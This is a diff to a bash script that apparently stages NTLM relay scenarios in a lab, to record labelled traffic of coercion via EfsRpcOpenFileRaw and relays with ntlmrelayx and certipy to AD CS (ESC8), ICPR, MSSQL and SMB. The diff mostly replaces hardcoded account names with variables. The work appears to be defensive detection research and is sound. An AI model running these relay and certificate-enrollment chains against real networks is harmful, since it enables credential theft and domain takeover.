@@ -3,11 +3,13 @@
 # quietly_on HOST COMMAND...
 quietly_on() { timeout 25 "$HERE/in_host" "$@" >> "$RUN/clients.log" 2>&1 < /dev/null || true; }
 
+MACHINE=${SRV_NAME^^}\$
+
 # The victim's logons when no call of the capture is their cause: SMB as its machine account, by Samba's
 # client (with a MIC, wants signing) or by impacket's (neither), HTTP and WebDAV by curl (no MIC).
 machine_smb() { # listener
   quietly_on srv1 smbclient "//$1/IPC$" -t 8 -c exit --use-kerberos=off -s "$STATE/srv1/smb.conf" \
-    -U "$DOMAIN/SRV1\$%$SRV_PW" '--option=client min protocol=SMB2_02' '--option=client ipc signing=if_required'
+    -U "$DOMAIN/$MACHINE%$SRV_PW" '--option=client min protocol=SMB2_02' '--option=client ipc signing=if_required'
 }
 machine_impacket() { # listener
   quietly_on srv1 env PYTHONPATH="$HERE" "$CLIENTS/python" -c "import callback; print(callback.impacket_logon('$1'))"
@@ -20,10 +22,10 @@ machine_webdav() { # listener
   machine_http "http://$1/share/file.txt" "${dav[@]}"
 }
 user_smb() { # listener
-  quietly_on ws1 smbclient "//$1/share" -t 8 -c ls "${SMB_CLIENT[@]}" -U "$DOMAIN/alice%$ALICE_PW"
+  quietly_on ws1 smbclient "//$1/share" -t 8 -c ls "${SMB_CLIENT[@]}" -U "$DOMAIN/$ALICE%$ALICE_PW"
 }
 user_http() { # url [curl options]
-  quietly_on ws1 curl -sS --max-time 12 -o /dev/null --ntlm -u "$DOMAIN\\alice:$ALICE_PW" "$@"
+  quietly_on ws1 curl -sS --max-time 12 -o /dev/null --ntlm -u "$DOMAIN\\$ALICE:$ALICE_PW" "$@"
 }
 
 efs_call() { call "ncacn_np:$SRV[\\pipe\\lsarpc]" EfsRpcOpenFileRaw:lsarpc "${1:-$FILE}"; }
@@ -165,7 +167,7 @@ scenario_relay_smb_http_app() {
 scenario_relay_smb_http_refused() {
   record relay_smb_http_refused
   relay_on smb -t "http://$CA/certsrv/certfnsh.asp" --adcs --template Machine
-  quietly_on srv1 smbclient "//$EVIL/IPC$" -t 8 -c exit --use-kerberos=off -U "$DOMAIN/SRV1\$%not-the-password" "${SMB_CLIENT[@]}"
+  quietly_on srv1 smbclient "//$EVIL/IPC$" -t 8 -c exit --use-kerberos=off -U "$DOMAIN/$MACHINE%not-the-password" "${SMB_CLIENT[@]}"
   sleep 2
   truth "${RELAY[@]}" target=$CA expect=relay:smb-http "$IMPACKET_TOOLS" \
     notes="The response does not verify: the web server answers the relayed AUTHENTICATE with 401, no certificate."
@@ -193,26 +195,26 @@ scenario_relay_smb_rpc_icpr_refused() {
 }
 
 scenario_relay_smb_rpc_icpr_certipy() {
-  callback_with libsmbclient
   record relay_smb_rpc_icpr_certipy
   certipy_relay "rpc://$CA" -ca 'lab-CA'
-  efs_call
+  machine_again $EVIL 2
   sleep 5
-  truth "${RELAY[@]}" target=$CA expect=coercion:efsr expect=callback:smb expect=relay:smb-rpc expect=icpr-enrollment expect=chain \
-    tools="certipy-ad 4.8.2, impacket 0.13.1" \
-    notes="The same request by another tool."
+  truth "${RELAY[@]}" target=$CA expect=relay:smb-rpc expect=icpr-enrollment expect=rogue-server:ntlmrelayx \
+    tools="certipy-ad 4.8.2, impacket 0.12.0, smbprotocol 1.17.0" \
+    notes="The same request by another tool. Its listener starts with a challenge of its own (8 times 0x41) and relays the second logon on the same connection."
 }
 
 scenario_relay_smb_http_adcs_certipy() {
-  callback_with libsmbclient
   record relay_smb_http_adcs_certipy
   certipy_relay "http://$CA"
-  efs_call
+  machine_again $EVIL 2
   sleep 5
-  truth "${RELAY[@]}" target=$CA expect=coercion:efsr expect=callback:smb expect=relay:smb-http expect=adcs-enrollment expect=chain \
-    tools="certipy-ad 4.8.2, impacket 0.13.1" \
-    notes="ESC8 by another tool. Its listener starts with a challenge of its own (8 times 0x41) before it relays."
+  truth "${RELAY[@]}" target=$CA expect=relay:smb-http expect=adcs-enrollment expect=rogue-server:ntlmrelayx \
+    tools="certipy-ad 4.8.2, impacket 0.12.0, smbprotocol 1.17.0" notes="ESC8 by another tool."
 }
+
+# A client that logs on several times on one connection, as Windows does
+machine_again() { quietly_on srv1 "$CLIENTS/python" "$HERE/multi_logon.py" "$1" "$2"; }
 
 certipy_relay() { # target [arguments]
   local target=$1; shift
@@ -254,7 +256,7 @@ scenario_relay_smb_mssql_user() {
 scenario_relay_smb_mssql_refused() {
   record relay_smb_mssql_refused
   relay_on smb -t "mssql://$FILES" -q 'select 1'
-  quietly_on ws1 smbclient "//$EVIL/share" -t 8 -c ls "${SMB_CLIENT[@]}" -U "$DOMAIN/alice%not-the-password"
+  quietly_on ws1 smbclient "//$EVIL/share" -t 8 -c ls "${SMB_CLIENT[@]}" -U "$DOMAIN/$ALICE%not-the-password"
   sleep 2
   truth "${USER_RELAY[@]}" target=$FILES expect=relay:smb-mssql "$IMPACKET_TOOLS" \
     notes="Login failed at the target."
@@ -318,7 +320,7 @@ scenario_relay_webdav_smb() {
 
 machine_rpc() { # listener
   quietly_on srv1 rpcclient "ncacn_ip_tcp:$1[135,$2]" -s "$STATE/srv1/smb.conf" --use-kerberos=off \
-    -U "$DOMAIN/SRV1\$%$SRV_PW" -c 'epmmap'
+    -U "$DOMAIN/$MACHINE%$SRV_PW" -c 'epmmap'
 }
 
 scenario_relay_rpc_smb() {
@@ -360,7 +362,7 @@ scenario_relay_winrm_smb() {
 scenario_relay_mssql_smb() {
   record relay_mssql_smb
   relay_on mssql -t "smb://$FILES"
-  quietly_on ws1 "$IMPACKET/python" "$IMPACKET/mssqlclient.py" -windows-auth "$DOMAIN/alice:$ALICE_PW@$EVIL"
+  quietly_on ws1 "$IMPACKET/python" "$IMPACKET/mssqlclient.py" -windows-auth "$DOMAIN/$ALICE:$ALICE_PW@$EVIL"
   sleep 3
   truth "${USER_RELAY[@]}" target=$FILES expect=relay:mssql-smb "$IMPACKET_TOOLS" \
     notes="The victim's client logs in to a database that is the attacker's."
@@ -374,7 +376,7 @@ scenario_relay_multi_targets() {
   several_targets
   record relay_multi_targets
   relay_on smb -tf "$RUN/targets"
-  quietly_on srv1 "$CLIENTS/python" "$HERE/multi_logon.py" $EVIL 4
+  machine_again $EVIL 4
   sleep 3
   truth "${RELAY[@]}" target=$FILES also=target:$CA also=target:$DC expect=relay:smb-smb expect=relay:smb-http \
     expect=rogue-server:ntlmrelayx tools="$IMPACKET_CALL, smbprotocol 1.17.0" \
